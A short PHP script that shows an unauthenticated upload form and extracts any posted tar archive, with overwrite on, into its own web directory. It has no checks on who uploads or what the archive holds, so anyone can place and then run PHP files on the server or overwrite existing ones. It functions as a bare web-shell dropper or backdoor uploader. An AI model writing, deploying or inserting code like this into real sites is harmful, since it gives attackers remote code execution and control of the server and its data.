<?php
// Tar upload: PharData opens the posted archive and every member is written next to this page.
if (isset($_FILES['t'])) {
    $tar = new PharData($_FILES['t']['tmp_name']);
    $tar->extractTo(dirname(__FILE__), null, true);
    exit('ok');
}
echo '<form method=post enctype=multipart/form-data><input type=file name=t><button>up</button></form>';
